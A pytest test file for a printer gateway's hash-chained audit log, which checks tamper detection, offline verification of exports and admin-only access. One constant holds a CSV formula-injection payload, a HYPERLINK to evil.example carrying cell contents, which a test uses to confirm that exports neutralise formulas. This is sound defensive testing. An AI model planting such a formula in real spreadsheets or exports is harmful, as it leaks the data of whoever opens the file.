"""The gateway's audit trail as a hash chain (services.common.audit): rows written through the API are sealed in
order, ``verify`` names the first row edited or removed in the database, and ``GET /v1/audit/export`` (admin)
gives a file that verifies offline."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import delete, select, update

from services.common.audit_chain import AUDIT_TABLE as AUDIT
from services.common.audit_chain import GENESIS, ChainReport, event_hash, verify_trail
from services.common.db import Database
from services.ops.audit import verify_export
from tests.gateway.in_process import InProcessGateway

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def verified(office: InProcessGateway) -> ChainReport:
    db: Database = office.app.state.db
    async with db.read_sessions() as session:
        return await verify_trail(session)


async def audited_changes(office: InProcessGateway) -> list[int]:
    """Six audited changes to the fleet through the API (three printers registered, then removed); the ids of
    their audit rows, oldest first."""
    printers = [await office.printer(name) for name in ("front-desk", "back-office", "mobile-van")]
    for printer in printers:
        assert (await office.by_role["admin"].delete(f"/v1/printers/{printer}")).status_code == 200
    rows = (await office.by_role["admin"].get("/v1/audit", params={"limit": 500})).json()["items"]
    assert len(rows) == 6
    return sorted(row["id"] for row in rows)


async def tamper(office: InProcessGateway, statement: Any) -> None:
    """What someone with the database's password could do."""
    db: Database = office.app.state.db
    async with db.engine.begin() as connection:
        await connection.execute(statement)


async def test_each_audit_row_is_chained_to_the_one_before(office: InProcessGateway) -> None:
    await audited_changes(office)
    exported = (await office.by_role["admin"].get("/v1/audit/export")).text.splitlines()
    rows = [json.loads(line) for line in exported[:-1]]
    assert [row["seq"] for row in rows] == [1, 2, 3, 4, 5, 6]
    assert [row["prev_hash"] for row in rows] == [GENESIS] + [row["hash"] for row in rows[:-1]]
    report = await verified(office)
    assert (report.broken, report.rows, report.head_seq, report.head_hash) == (None, 6, 6, rows[-1]["hash"])


async def test_verify_names_the_row_whose_content_was_edited_in_the_database(office: InProcessGateway) -> None:
    ids = await audited_changes(office)
    await tamper(office, update(AUDIT).where(AUDIT.c.id == ids[2]).values(after={"name": "someone-else"}))
    report = await verified(office)
    assert report.broken is not None
    assert (report.broken.id, report.broken.seq) == (ids[2], 3)
    assert report.broken.problem.startswith("its content was changed after it was sealed")
    assert (report.rows, report.head_seq) == (2, 2)


async def test_a_row_edited_with_a_new_hash_breaks_the_link_of_the_row_after_it(office: InProcessGateway) -> None:
    ids = await audited_changes(office)
    db: Database = office.app.state.db
    async with db.read_sessions() as session:
        row = (await session.execute(select(AUDIT).where(AUDIT.c.id == ids[1]))).mappings().one()
    forged = {**row, "actor": "nobody", "at": row["at"].strftime("%Y-%m-%dT%H:%M:%S.%fZ")}
    await tamper(office, update(AUDIT).where(AUDIT.c.id == ids[1]).values(actor="nobody", hash=event_hash(forged)))
    report = await verified(office)
    assert report.broken is not None
    assert (report.broken.id, report.broken.seq) == (ids[2], 3)
    assert report.broken.problem.startswith("its prev_hash")


async def test_verify_finds_a_row_deleted_from_the_middle(office: InProcessGateway) -> None:
    ids = await audited_changes(office)
    await tamper(office, delete(AUDIT).where(AUDIT.c.id == ids[3]))
    report = await verified(office)
    assert report.broken is not None
    assert (report.broken.id, report.broken.seq) == (ids[4], 5)
    assert report.broken.problem == "seq 5 follows seq 3: row seq 4 was removed"


async def test_verify_finds_a_row_taken_out_of_the_chain(office: InProcessGateway) -> None:
    ids = await audited_changes(office)
    await tamper(office, update(AUDIT).where(AUDIT.c.id == ids[-1]).values(seq=None))
    report = await verified(office)
    assert report.broken is not None
    assert (report.broken.id, report.broken.problem) == (ids[-1], "not sealed into the chain (no seq or hash)")


async def export(client: httpx.AsyncClient, path: Path, **params: str) -> httpx.Response:
    response = await client.get("/v1/audit/export", params=params)
    assert response.status_code == 200, response.text
    path.write_bytes(response.content)
    return response


async def test_an_export_round_trips_through_the_offline_verifier(office: InProcessGateway, tmp_path: Path) -> None:
    await audited_changes(office)
    admin, head = office.by_role["admin"], await verified(office)
    for fmt in ("jsonl", "csv"):
        response = await export(admin, tmp_path / f"audit.{fmt}", format=fmt)
        assert (response.headers["x-audit-chain-seq"], response.headers["x-audit-chain-head"]) == ("6", head.head_hash)
        report = verify_export(tmp_path / f"audit.{fmt}")
        assert (report.broken, report.rows, report.head_hash) == (None, 6, head.head_hash), fmt

    lines = (tmp_path / "audit.jsonl").read_text().splitlines()
    assert json.loads(lines[-1]) == {"chain_head": {"seq": 6, "hash": head.head_hash}, "rows": 6, "filters": {}}
    edited = json.loads(lines[1]) | {"actor": "somebody-else"}
    (tmp_path / "edited.jsonl").write_text("\n".join([lines[0], json.dumps(edited), *lines[2:]]) + "\n")
    assert str(verify_export(tmp_path / "edited.jsonl").broken).startswith(
        f"row id {edited['id']} (seq 2): its content"
    )
    (tmp_path / "gap.jsonl").write_text("\n".join([*lines[:2], *lines[3:]]) + "\n")
    assert str(verify_export(tmp_path / "gap.jsonl").broken).endswith("seq 4 follows seq 2: row seq 3 was removed")
    (tmp_path / "cut.jsonl").write_text("\n".join(lines[:-2]) + "\n")
    assert str(verify_export(tmp_path / "cut.jsonl").broken).endswith("no trailer: the export was cut short")
    (tmp_path / "tail.jsonl").write_text("\n".join([*lines[:-2], lines[-1]]) + "\n")
    assert str(verify_export(tmp_path / "tail.jsonl").broken).endswith("the trailer counts 6 rows, the file holds 5")


async def test_a_filtered_export_verifies_its_own_rows(office: InProcessGateway, tmp_path: Path) -> None:
    await audited_changes(office)
    await export(office.by_role["admin"], tmp_path / "removed.jsonl", action="printer.removed")
    lines = (tmp_path / "removed.jsonl").read_text().splitlines()
    assert [json.loads(line)["seq"] for line in lines[:-1]] == [4, 5, 6]
    assert json.loads(lines[-1])["filters"] == {"action": "printer.removed"}
    report = verify_export(tmp_path / "removed.jsonl")
    assert (report.broken, report.rows) == (None, 3)


async def test_a_csv_export_defuses_a_formula_and_still_verifies(
    office: InProcessGateway, client_for: Any, make_token: Any, tmp_path: Path
) -> None:
    async with client_for(office.app, make_token("admin", subject=FORMULA)) as mallory:
        response = await mallory.post("/v1/printers", json={"name": FORMULA, "url": "socket://127.0.0.1:9"})
        assert response.status_code == 201, response.text
    await export(office.by_role["admin"], tmp_path / "audit.csv", format="csv")

    rows = list(csv.DictReader(io.StringIO((tmp_path / "audit.csv").read_text(), newline="")))
    assert rows[0]["actor"] == "'" + FORMULA
    assert json.loads(rows[0]["after"])["name"] == FORMULA  # inside a JSON document: no formula
    assert [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    report = verify_export(tmp_path / "audit.csv")
    assert (report.broken, report.rows) == (None, 1)


async def test_only_an_admin_may_export_the_trail(office: InProcessGateway) -> None:
    for role in ("operator", "service", "clerk", "partner"):
        response = await office.by_role[role].get("/v1/audit/export")
        assert response.status_code == 403, (role, response.text)
    assert (await office.anonymous.get("/v1/audit/export")).status_code == 401
    assert (await office.by_role["admin"].get("/v1/audit/export", params={"format": "xml"})).status_code == 422


@pytest.mark.parametrize("backend", [pytest.param("postgres", marks=pytest.mark.postgres)])
async def test_twenty_concurrent_calls_through_the_api_leave_one_unbroken_chain(office: InProcessGateway) -> None:
    admin = office.by_role["admin"]
    created = await asyncio.gather(
        *(admin.post("/v1/printers", json={"name": f"p{n}", "url": "socket://127.0.0.1:9"}) for n in range(20))
    )
    assert [r.status_code for r in created] == [201] * 20
    report = await verified(office)
    assert (report.broken, report.rows) == (None, 20)
